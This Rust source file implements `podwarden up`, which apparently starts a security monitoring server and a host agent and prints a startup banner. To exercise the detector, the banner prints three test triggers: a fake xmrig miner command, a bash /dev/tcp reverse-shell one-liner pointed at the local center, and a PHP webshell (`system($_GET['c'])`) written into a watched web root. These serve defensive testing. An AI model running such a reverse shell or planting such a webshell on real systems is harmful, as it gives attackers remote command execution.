//! `podwarden up`: the one-command main job. The center on SQLite in a data directory, plus an
//! agent in host mode (a child process of this binary) protecting this machine; protection
//! switched on with the default binding, an enrolment token made for the agent, the OSV
//! database loaded when one is in its default place, a web root for webshell tests; prints the
//! console URL, an admin token and what to try. Ctrl-C or SIGTERM stops the agent (which
//! delivers what it still holds), then the server.
//!
//! Files in the data directory (`./podwarden-data` by default):
//!
//! | path | what |
//! |---|---|
//! | `podwarden.db` | the SQLite database |
//! | `podwarden.toml` | optional server settings, read when present (the flags win) |
//! | `admin-token` | the admin token generated on first start (mode 0600), printed again on later starts |
//! | `enrollment-token` | the host agent's enrolment token (mode 0600) |
//! | `agent/` | the agent's state: credential, spool, outbox, quarantine vault |
//! | `www/` | a web root the agent watches: drop a test webshell here |

use anyhow::{Context, bail};
use podwarden_server::config::{ConfigFile, Settings};
use podwarden_server::findings::schedule::ScanKind;
use podwarden_server::store::protection::ProtectionUpdate;
use podwarden_server::store::scans::ScanTarget;
use podwarden_server::store::tenants::Bootstrap;
use podwarden_server::store::{Actor, Store, TenantId};
use podwarden_server::{Server, shutdown_signal};
use std::io::Write;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// Heartbeat interval `up` uses unless its config file says otherwise: a new asset shows
/// online within seconds.
const HEARTBEAT_SECS: u64 = 5;
/// Upload bound `up` uses unless its config file says otherwise.
const AGENT_BODY_LIMIT: usize = 64 << 20;
/// How long the agent may take to stop before it is killed.
const AGENT_STOP_GRACE: Duration = Duration::from_secs(10);
/// How long `up` keeps asking for the first vulnerability scan while the agent comes online.
const FIRST_SCAN_PATIENCE: Duration = Duration::from_secs(120);

const HELP: &str = "\
What runs: the center (REST API, console, jobs) on SQLite in the data directory,
and `podwarden agent --mode host` as a child process, enrolled with a token made
for it, watching this machine's processes, connections and DATA/www. Protection
is switched on (first time: every asset bound, new ones added automatically).

Vulnerabilities: the OSV database is read from the `podwarden db` directory
($PODWARDEN_DB, else ~/.cache/podwarden/db) when it holds one; get one with
`podwarden db update` (downloads the OSV exports) or `podwarden db import PATH`.

Environment: PODWARDEN_BOOTSTRAP_TOKEN sets the admin token (at least 16
characters); PODWARDEN_LOG sets the log filter (default info for the center,
warn for the agent).";

#[derive(Debug, clap::Args)]
#[command(after_long_help = HELP)]
pub struct Args {
    /// Listen address of the console and API (port 0 picks a free port).
    #[arg(long, value_name = "ADDR", default_value = "127.0.0.1:8080")]
    pub listen: String,
    /// Data directory: database, tokens, agent state, web root.
    #[arg(long, value_name = "DIR", default_value = "podwarden-data")]
    pub data: PathBuf,
    /// OSV database directory (default: the `podwarden db` directory).
    #[arg(long, value_name = "DIR")]
    pub db: Option<PathBuf>,
    /// Start only the center, no host agent.
    #[arg(long)]
    pub no_agent: bool,
}

/// Writes a secret file readable by its owner only.
fn write_private(path: &Path, text: &str) -> anyhow::Result<()> {
    use std::os::unix::fs::OpenOptionsExt;
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)
        .with_context(|| format!("cannot write {}", path.display()))?;
    file.write_all(text.as_bytes())
        .with_context(|| format!("cannot write {}", path.display()))?;
    Ok(())
}

fn read_secret(path: &Path) -> Option<String> {
    let text = std::fs::read_to_string(path).ok()?;
    let text = text.trim();
    (!text.is_empty() && text.len() < 1024).then(|| text.to_string())
}

/// The data directory and its parts, created.
struct DataDir {
    root: PathBuf,
    agent: PathBuf,
    www: PathBuf,
}

impl DataDir {
    fn create(root: &Path) -> anyhow::Result<DataDir> {
        use std::os::unix::fs::DirBuilderExt;
        let mut builder = std::fs::DirBuilder::new();
        builder.recursive(true).mode(0o700);
        builder
            .create(root)
            .with_context(|| format!("cannot create the data directory {}", root.display()))?;
        let root = root
            .canonicalize()
            .with_context(|| format!("data directory {}", root.display()))?;
        let agent = root.join("agent");
        builder
            .create(&agent)
            .with_context(|| format!("cannot create {}", agent.display()))?;
        let www = root.join("www");
        std::fs::create_dir_all(&www)
            .with_context(|| format!("cannot create {}", www.display()))?;
        Ok(DataDir { root, agent, www })
    }
}

/// The server settings: `DATA/podwarden.toml` when present, with the data directory's
/// database, the listen address, a short heartbeat, and the OSV database when found.
fn settings(args: &Args, data: &DataDir) -> anyhow::Result<(Settings, Option<PathBuf>)> {
    let config_path = data.root.join("podwarden.toml");
    let mut file = if config_path.is_file() {
        ConfigFile::load(&config_path)?
    } else {
        ConfigFile::default()
    };
    if file.database.is_none() {
        file.database = Some(format!(
            "sqlite://{}",
            data.root.join("podwarden.db").display()
        ));
    }
    file.listen = Some(args.listen.clone());
    if file.heartbeat_interval_secs.is_none() {
        file.heartbeat_interval_secs = Some(HEARTBEAT_SECS);
    }
    if file.agent_body_limit_bytes.is_none() {
        // A whole machine's package inventory is larger than a pod's (9 MB on a build host).
        file.agent_body_limit_bytes = Some(AGENT_BODY_LIMIT);
    }
    if file.vuln_db.is_none() {
        let dir = crate::cmd::db::db_dir(args.db.clone())?;
        if dir.join(podwarden_scan::vuln::index::INDEX_FILE).is_file() {
            file.vuln_db = Some(dir.display().to_string());
        } else if args.db.is_some() {
            bail!(
                "--db {}: no vulnerability database there (run `podwarden db update --db {}`)",
                dir.display(),
                dir.display()
            );
        }
    }
    let vuln_db = file.vuln_db.as_ref().map(PathBuf::from);
    let settings = Settings::from_file(file)
        .with_context(|| format!("settings (config file {})", config_path.display()))?;
    Ok((settings, vuln_db))
}

/// The operator tenant and an admin token to print (`None` when it cannot be known).
fn admin_token(
    bootstrap: &Bootstrap,
    given: Option<&str>,
    data: &DataDir,
) -> anyhow::Result<(TenantId, Option<String>)> {
    let saved = data.root.join("admin-token");
    Ok(match bootstrap {
        Bootstrap::Created { tenant, token } => {
            write_private(&saved, token)?;
            (*tenant, Some(token.clone()))
        }
        Bootstrap::CreatedWithGivenToken { tenant } => (*tenant, given.map(str::to_string)),
        Bootstrap::Existing { tenant, .. } => (
            *tenant,
            given.map(str::to_string).or_else(|| read_secret(&saved)),
        ),
    })
}

/// The agent's enrolment token: the saved one while the center still accepts it, else a new
/// one (saved for the next start).
async fn enrollment_token(
    store: &Store,
    tenant: TenantId,
    data: &DataDir,
) -> anyhow::Result<String> {
    let saved = data.root.join("enrollment-token");
    if let Some(token) = read_secret(&saved)
        && store
            .authenticate_enrollment_token(&token)
            .await?
            .is_some_and(|p| p.tenant == tenant)
    {
        return Ok(token);
    }
    let (_, token) = store
        .create_enrollment_token(tenant, "podwarden up (host agent)", &up_actor())
        .await?;
    write_private(&saved, &token)?;
    Ok(token)
}

fn up_actor() -> Actor {
    Actor("podwarden up".to_string())
}

/// The address clients on this machine reach the center at (a wildcard listen address
/// becomes loopback).
fn reachable_ip(addr: SocketAddr) -> std::net::IpAddr {
    match addr.ip() {
        std::net::IpAddr::V4(ip) if ip.is_unspecified() => std::net::IpAddr::from([127, 0, 0, 1]),
        std::net::IpAddr::V6(ip) if ip.is_unspecified() => {
            std::net::IpAddr::from(std::net::Ipv6Addr::LOCALHOST)
        }
        ip => ip,
    }
}

/// The URL the agent reaches the center at.
fn agent_url(addr: SocketAddr) -> String {
    format!(
        "http://{}",
        SocketAddr::new(reachable_ip(addr), addr.port())
    )
}

/// Runs the host agent as a child process, restarting it (with backoff) if it exits, until
/// stopped; stopping sends SIGTERM and waits, then kills.
struct AgentSupervisor {
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl AgentSupervisor {
    fn start(command: impl Fn() -> Command + Send + 'static) -> anyhow::Result<AgentSupervisor> {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::Builder::new()
            .name("podwarden-up-agent".to_string())
            .spawn(move || supervise(command, &flag))
            .context("cannot start the agent supervisor")?;
        Ok(AgentSupervisor {
            stop,
            thread: Some(thread),
        })
    }

    /// Stops the agent and waits for it.
    fn stop(mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn spawn_agent(command: &(impl Fn() -> Command + ?Sized)) -> std::io::Result<Child> {
    use std::os::unix::process::CommandExt;
    let mut command = command();
    // Its own process group: Ctrl-C reaches `up`, which stops the agent in order.
    command.process_group(0);
    // SAFETY: the closure runs in the child between fork and exec and only calls prctl(2),
    // which is async-signal-safe; it allocates nothing and touches no lock. The signal goes
    // to the agent when this (supervisor) thread dies, so a killed `up` leaves no agent.
    unsafe {
        command.pre_exec(|| {
            rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::TERM))
                .map_err(std::io::Error::from)
        });
    }
    command.spawn()
}

fn supervise(command: impl Fn() -> Command, stop: &AtomicBool) {
    let mut backoff = Duration::from_secs(1);
    while !stop.load(Ordering::SeqCst) {
        let started = Instant::now();
        let mut child = match spawn_agent(&command) {
            Ok(child) => child,
            Err(err) => {
                eprintln!("podwarden up: cannot start the agent: {err}");
                wait_or_stop(stop, backoff);
                backoff = (backoff * 2).min(Duration::from_secs(30));
                continue;
            }
        };
        let status = loop {
            match child.try_wait() {
                Ok(Some(status)) => break Some(status),
                Ok(None) if stop.load(Ordering::SeqCst) => break None,
                Ok(None) => std::thread::sleep(Duration::from_millis(100)),
                Err(err) => {
                    eprintln!("podwarden up: cannot watch the agent: {err}");
                    break None;
                }
            }
        };
        match status {
            None => {
                terminate(&mut child);
                return;
            }
            Some(status) => {
                if started.elapsed() > Duration::from_secs(60) {
                    backoff = Duration::from_secs(1);
                }
                eprintln!(
                    "podwarden up: the agent exited ({status}); starting it again in {} s",
                    backoff.as_secs()
                );
                wait_or_stop(stop, backoff);
                backoff = (backoff * 2).min(Duration::from_secs(30));
            }
        }
    }
}

fn wait_or_stop(stop: &AtomicBool, delay: Duration) {
    let until = Instant::now() + delay;
    while Instant::now() < until && !stop.load(Ordering::SeqCst) {
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// SIGTERM, a grace period for the agent's last delivery, then SIGKILL.
fn terminate(child: &mut Child) {
    if let Ok(Some(_)) = child.try_wait() {
        return;
    }
    if let Some(pid) = i32::try_from(child.id())
        .ok()
        .and_then(rustix::process::Pid::from_raw)
    {
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
    }
    let until = Instant::now() + AGENT_STOP_GRACE;
    while Instant::now() < until {
        match child.try_wait() {
            Ok(Some(_)) | Err(_) => return,
            Ok(None) => std::thread::sleep(Duration::from_millis(50)),
        }
    }
    eprintln!(
        "podwarden up: the agent did not stop within {} s; killing it",
        AGENT_STOP_GRACE.as_secs()
    );
    let _ = child.kill();
    let _ = child.wait();
}

/// Asks for a vulnerability scan as soon as the agent is online, so that findings show
/// within a minute instead of at the agent's first scheduled inventory.
async fn first_scan(store: Store, tenant: TenantId) {
    let deadline = Instant::now() + FIRST_SCAN_PATIENCE;
    while Instant::now() < deadline {
        tokio::time::sleep(Duration::from_secs(2)).await;
        match store
            .request_scans(
                tenant,
                ScanKind::Vulnerability,
                &ScanTarget::All,
                &up_actor(),
            )
            .await
        {
            Ok(outcome) if !outcome.queued.is_empty() || !outcome.already_queued.is_empty() => {
                return;
            }
            Ok(_) => {}
            Err(err) => {
                eprintln!("podwarden up: cannot request the first vulnerability scan: {err}");
                return;
            }
        }
    }
}

fn print_banner(
    out: &mut impl Write,
    addr: SocketAddr,
    token: Option<&str>,
    data: &DataDir,
    vuln_db: Option<&Path>,
    agent: bool,
) -> std::io::Result<()> {
    let url = agent_url(addr);
    writeln!(out)?;
    writeln!(out, "Podwarden is up.")?;
    writeln!(out)?;
    writeln!(out, "  Console:      {url}/")?;
    writeln!(
        out,
        "  API:          {url}/api/v1  (OpenAPI: {url}/openapi.json)"
    )?;
    match token {
        Some(token) => writeln!(out, "  Admin token:  {token}")?,
        None => writeln!(
            out,
            "  Admin token:  the one printed on the first start (set PODWARDEN_BOOTSTRAP_TOKEN to choose one)"
        )?,
    }
    writeln!(out, "  Data:         {}", data.root.display())?;
    match vuln_db {
        Some(db) => writeln!(out, "  OSV database: {}", db.display())?,
        None => writeln!(
            out,
            "  OSV database: none yet: run `podwarden db update` (or `podwarden db import PATH`), then restart"
        )?,
    }
    if agent {
        writeln!(
            out,
            "  Agent:        host mode, protecting this machine; web root {}",
            data.www.display()
        )?;
        writeln!(out)?;
        writeln!(out, "Try this (alerts show within seconds under Alerts):")?;
        writeln!(
            out,
            "  a fake miner:    sh -c 'sleep 30; :' xmrig -o stratum+tcp://pool.example.com:3333"
        )?;
        // The center's own port is the listener, so the suggestion needs no `nc`.
        let (host, port) = (reachable_ip(addr), addr.port());
        writeln!(
            out,
            "  a reverse shell: bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"
        )?;
        writeln!(
            out,
            "  a webshell:      echo '<?php system($_GET[\"c\"]); ?>' > {}/shell.php",
            data.www.display()
        )?;
        writeln!(
            out,
            "The machine shows under Assets (online); its packages' vulnerabilities follow its first scan."
        )?;
    }
    writeln!(out)?;
    writeln!(out, "Ctrl-C stops the agent and the center.")?;
    out.flush()
}

pub fn run(args: Args) -> anyhow::Result<ExitCode> {
    let filter = tracing_subscriber::EnvFilter::try_from_env("PODWARDEN_LOG")
        .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new("info"));
    let _ = tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .try_init();
    let data = DataDir::create(&args.data)?;
    let (settings, vuln_db) = settings(&args, &data)?;
    let given_token = std::env::var("PODWARDEN_BOOTSTRAP_TOKEN")
        .ok()
        .filter(|t| !t.trim().is_empty());
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .context("cannot start the async runtime")?;
    runtime.block_on(async move {
        let database = settings.database.clone();
        let mut server = Server::start(settings, given_token.as_deref())
            .await
            .with_context(|| format!("cannot start the server (database {database})"))?;
        let addr = server.local_addr().context("the server has no address")?;
        let store = server.state_mut().store.clone();
        let (tenant, token) = admin_token(server.bootstrap(), given_token.as_deref(), &data)?;
        let protection = store.protection(tenant).await?;
        if !protection.enabled {
            store
                .update_protection(
                    tenant,
                    ProtectionUpdate {
                        enabled: Some(true),
                        ..ProtectionUpdate::default()
                    },
                    &up_actor(),
                )
                .await
                .context("cannot switch protection on")?;
        }
        let (stop_server, server_stopped) = tokio::sync::oneshot::channel::<()>();
        let mut served = tokio::spawn(server.run(async move {
            let _ = server_stopped.await;
        }));
        let agent = if args.no_agent {
            None
        } else {
            let enrollment = enrollment_token(&store, tenant, &data).await?;
            let exe =
                std::env::current_exe().context("cannot find this program to start the agent")?;
            let url = agent_url(addr);
            let state = data.agent.clone();
            let www = data.www.clone();
            let log = std::env::var("PODWARDEN_LOG").unwrap_or_else(|_| "warn".to_string());
            let supervisor = AgentSupervisor::start(move || {
                let mut command = Command::new(&exe);
                command
                    .args(["agent", "--mode", "host", "--server", &url, "--state-dir"])
                    .arg(&state)
                    .arg("--web-root")
                    .arg(&www)
                    .env("PODWARDEN_TOKEN", &enrollment)
                    .env("PODWARDEN_LOG", &log)
                    .env_remove("PODWARDEN_CONTAINER_TYPE")
                    .stdin(Stdio::null());
                command
            })?;
            tokio::spawn(first_scan(store.clone(), tenant));
            Some(supervisor)
        };
        print_banner(
            &mut std::io::stdout().lock(),
            addr,
            token.as_deref(),
            &data,
            vuln_db.as_deref(),
            agent.is_some(),
        )?;
        let early = tokio::select! {
            _ = shutdown_signal() => None,
            result = &mut served => Some(result),
        };
        if let Some(agent) = agent {
            eprintln!("podwarden up: stopping the agent");
            tokio::task::spawn_blocking(move || agent.stop()).await.ok();
        }
        let result = match early {
            Some(result) => result,
            None => {
                let _ = stop_server.send(());
                served.await
            }
        };
        result
            .context("the server task failed")?
            .context("server failed")?;
        eprintln!("podwarden up: stopped");
        Ok(ExitCode::SUCCESS)
    })
}
